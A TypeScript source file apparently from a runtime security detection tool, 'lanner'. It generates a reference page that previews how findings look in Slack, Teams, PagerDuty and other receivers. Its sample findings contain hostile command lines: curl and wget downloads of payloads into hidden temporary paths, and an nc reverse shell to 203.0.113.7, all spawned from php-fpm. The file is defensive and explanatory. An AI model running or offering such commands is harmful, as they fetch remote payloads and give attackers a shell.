/** The page of the message formats, deploy/reference/formats.md: rendered by the formats that send. */

import { alertmanagerFormat } from '../deliver/formats/alertmanager.ts';
import type { Format } from '../deliver/formats/format.ts';
import { pagerdutyFormat } from '../deliver/formats/pagerduty.ts';
import { slackFormat } from '../deliver/formats/slack.ts';
import { teamsFormat } from '../deliver/formats/teams.ts';
import { templateFormat } from '../deliver/formats/template.ts';
import { preview } from '../deliver/preview.ts';
import { defaultDetectConfig } from '../detect/config.ts';
import { exampleEvent } from '../detect/examples.ts';
import { createDetector } from '../detect/index.ts';
import type { Delivery, NoticeDelivery, Parcel } from '../model/delivery.ts';
import type { Finding, Severity } from '../model/finding.ts';
import { makeFinding } from '../model/make-finding.ts';

/** The templates that the package brings, deploy/templates/*.liquid: their texts. */
export interface Templates {
  discord: string;
  google_chat: string;
}

const page_url = 'https://lanner.example';

/** The whole page, Markdown, always the same for the same code and templates. */
export function formatsReference(templates: Templates): string {
  const chats = chatFormats(templates);
  const sections = [
    head(),
    bodyTable(),
    ...Object.entries(examples()).map(
      ([title, parcel]) =>
        `## ${title}\n\n<table>\n${chats.map((chat) => row(chat, parcel)).join('\n')}\n</table>`,
    ),
  ];
  return `${sections.join('\n\n')}\n`;
}

function head(): string {
  return [
    '# What receivers are sent',
    'Written by `npm run generate` with the code and the templates that send. `lanner sink test NAME` sends a test finding to a configured sink and shows the whole body, the answer and a preview such as those below.',
    'A body that would exceed a limit of its vendor is shortened, with `…` where text is missing; it is never refused for that.',
  ].join('\n\n');
}

/** Name, how a sink asks for it, what a receiver needs to know, several findings in one body. */
const bodies: readonly (readonly [string, string, string, string])[] = [
  [
    'lanner',
    '`type: webhook`',
    '[finding.schema.json](finding.schema.json), [notice.schema.json](notice.schema.json)',
    'array or NDJSON',
  ],
  [
    'cloudevents',
    '`type: webhook, format: cloudevents` or `cloudevents_binary`',
    'CloudEvents 1.0, structured or binary',
    'batch mode',
  ],
  [
    'falcosidekick',
    '`type: webhook, format: falcosidekick`',
    'what Falco sends to falcosidekick and Talon',
    'no',
  ],
  ['ocsf', '`type: webhook, format: ocsf`', 'OCSF Detection Finding (class 2004)', 'array'],
  ['slack', '`type: slack`', 'Block Kit by an incoming webhook; 50 blocks, 3,000 characters each', 'no'],
  ['teams', '`type: teams`', 'Adaptive Card by a workflow; 28 KB', 'no'],
  ['pagerduty', '`type: pagerduty`', 'Events API v2; one incident per finding, 512 KB', 'no'],
  ['alertmanager', '`type: alertmanager`', 'API v2; labels hold nothing that differs each time', 'array'],
  [
    'template',
    '`type: webhook, format: template`',
    'Liquid, your own body; [Discord](../templates/discord.liquid), [Google Chat](../templates/google-chat.liquid)',
    'as you write it',
  ],
];

function bodyTable(): string {
  const rows = bodies.map((cells) => `| ${cells.join(' | ')} |`);
  return [
    '| format | sink | form and limits | several findings in one body |',
    '| --- | --- | --- | --- |',
    ...rows,
  ].join('\n');
}

function chatFormats(templates: Templates): [string, Format][] {
  const json = 'application/json';
  const resolve_after_ms = 3_600_000;
  return [
    ['Slack', slackFormat(page_url)],
    ['Teams', teamsFormat(page_url)],
    ['Discord', templateFormat(templates.discord, json, page_url)],
    ['Google Chat', templateFormat(templates.google_chat, json, page_url)],
    ['PagerDuty', pagerdutyFormat(() => 'integration key', page_url)],
    ['Alertmanager', alertmanagerFormat({ labels: {}, resolve_after_ms, page_url, now: () => 0 })],
  ];
}

/** A table of HTML: text of several lines has no place in one of Markdown. */
function row([name, format]: [string, Format], parcel: Parcel): string {
  const lines = preview(String(format.render(parcel).body)) ?? [];
  // An empty line would end the HTML and begin Markdown.
  const shown = lines.map((line) => (line === '' ? '&nbsp;' : escaped(line))).join('\n');
  return `<tr><th valign="top">${name}</th><td>\n<pre>${shown}</pre>\n</td></tr>`;
}

function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
}

function examples(): Record<string, Parcel> {
  const finding = judged('f-7d41', 'curl -fsSL http://203.0.113.7/x -o /tmp/.x/run', [
    'sh -c "curl -fsSL http://203.0.113.7/x -o /tmp/.x/run"',
    'php-fpm',
  ]);
  const others = [
    judged('f-7d42', 'nc 203.0.113.7 4444 -e /bin/sh', ['sh', 'php-fpm']),
    judged('f-7d43', 'wget -q http://203.0.113.7/y -O /dev/shm/y', ['sh', 'php-fpm']),
  ];
  return {
    'A finding': delivery(finding),
    'A group: what a route gathered by namespace': grouped([finding, ...others], 412),
    "Lanner's own trouble": trouble('started'),
    'The same trouble is over': trouble('ended'),
  };
}

function judged(id: string, run: string, by: string[]): Finding {
  const event = exampleEvent({ run, by });
  const judge = createDetector(defaultDetectConfig()).judge;
  return makeFinding(event, judge(event), id);
}

function delivery(finding: Finding): Delivery {
  return { id: `${finding.id}:1:chat`, sink: 'chat', finding };
}

function grouped(findings: readonly Finding[], count: number): Delivery {
  const samples = [...findings].sort((a, b) => b.score - a.score);
  const [first] = samples;
  const by_severity: Partial<Record<Severity, number>> = {};
  for (const { severity } of samples) by_severity[severity] = (by_severity[severity] ?? 0) + 1;
  const top = first?.severity ?? 'high';
  by_severity[top] = (by_severity[top] ?? 0) + count - samples.length;
  return {
    ...delivery(first ?? findings[0]!),
    group: {
      key: 'route chat {"namespace":"shop"}',
      kind: 'group',
      labels: { namespace: 'shop' },
      count,
      by_severity,
      first: '2026-01-02T03:04:05.000Z',
      last: '2026-01-02T03:09:05.000Z',
      samples,
    },
  };
}

function trouble(state: 'started' | 'ended'): NoticeDelivery {
  const notice = {
    schema: 'lanner.notice/v1',
    id: 'source_down:tetragon:1767323045000',
    kind: 'source_down',
    state,
    severity: 'high',
    subject: 'tetragon',
    title: 'No events from tetragon',
    detail: 'nothing listens at unix:///var/run/tetragon/tetragon.sock',
    started: '2026-01-02T03:04:05.000Z',
  } as const;
  const ended = state === 'ended' ? { ended: '2026-01-02T03:14:05.000Z' } : {};
  return { id: `${notice.id}:${state}:1:chat`, sink: 'chat', notice: { ...notice, ...ended } };
}
